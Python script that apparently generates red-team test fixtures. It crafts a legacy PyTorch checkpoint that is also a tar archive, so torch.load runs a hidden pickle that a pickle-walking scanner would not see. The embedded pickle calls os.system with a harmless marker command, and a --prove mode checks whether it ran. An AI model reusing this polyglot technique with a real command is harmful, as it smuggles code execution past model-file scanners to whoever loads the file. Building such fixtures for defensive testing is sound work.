"""A legacy torch.save pickle sequence that is also a tar archive.

torch.load tries tarfile.open first on any file that is not a zip, and tarfile needs only a first
block whose checksum matches. Here the magic-number pickle starts with a BINBYTES string that
holds that block; the tar's first member spans the other pickles, and the members torch reads
(storages, tensors, pickle) sit inside what the pickle reading takes for storage bytes.
Run with Debian's python3 (torch 1.13): python3 make_tar_polyglot_fixtures.py [--prove]
"""
import io, os, pickle, struct, sys, tarfile
import torch
MARK = '/tmp/safeload-redteam-pwned'
OUT = os.path.dirname(os.path.abspath(__file__))
def evil_pickle():
    cmd = ('touch ' + MARK).encode()
    return b'\x80\x02cos\nsystem\nq\x00X' + struct.pack('<I', len(cmd)) + cmd + b'\x85R.'
def tar_header(name, size, type=b'0'):
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b'0000644\0'; h[108:116] = b'0000000\0'; h[116:124] = b'0000000\0'
    h[124:136] = b'%011o\0' % size; h[136:148] = b'00000000000\0'
    h[156:157] = type; h[257:263] = b'ustar\0'; h[263:265] = b'00'
    return h
def checksum(h):
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o\0 ' % sum(h)
def build(payload):
    N = 8192
    b = io.BytesIO(); torch.save(torch.zeros(N, dtype=torch.uint8), b, _use_new_zipfile_serialization=False); G = b.getvalue()
    magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)
    rest = G[len(magic):]
    L = 505                                   # BINBYTES blob covers file bytes 7..511: the first tar header
    first = bytearray(b'\x80\x02B' + struct.pack('<I', L) + b'\0' * L)
    out = bytearray(first + b'0' + magic[2:] + rest)
    D = len(out) - N                          # where the gate's storage bytes start
    H1 = -(-D // 512) * 512                   # first tar-aligned offset inside them
    # member 0 (name: the pickle's first bytes) spans everything up to H1
    h = bytearray(out[0:512])
    hh = tar_header(b'', H1 - 512)
    for i in range(7, 512): h[i] = hh[i]      # bytes 0..6 are the pickle's; the name field keeps them
    checksum(h)
    out[7:512] = h[7:512]
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode='w', format=tarfile.USTAR_FORMAT) as t:
        for name, data in [('storages', pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
                           ('tensors', pickle.dumps(0, protocol=2)), ('pickle', payload)]:
            ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    inner = inner.getvalue().rstrip(b'\0'); inner += b'\0' * (-len(inner) % 512) + b'\0' * 1024
    assert H1 + len(inner) <= len(out), (H1, len(inner), len(out))
    out[H1:H1 + len(inner)] = inner
    return bytes(out)
open(os.path.join(OUT, 'legacy_pickles_also_tar.pt'), 'wb').write(build(evil_pickle()))
open(os.path.join(OUT, 'legacy_pickles_also_tar_twin.pt'), 'wb').write(build(pickle.dumps({'epoch': 3}, protocol=2)))

if '--prove' in sys.argv:
    for name in ['legacy_pickles_also_tar.pt', 'legacy_pickles_also_tar_twin.pt']:
        if os.path.exists(MARK):
            os.remove(MARK)
        r = torch.load(os.path.join(OUT, name))
        print(f'{name:34s} torch.load -> {r!r}, payload ran={os.path.exists(MARK)}')
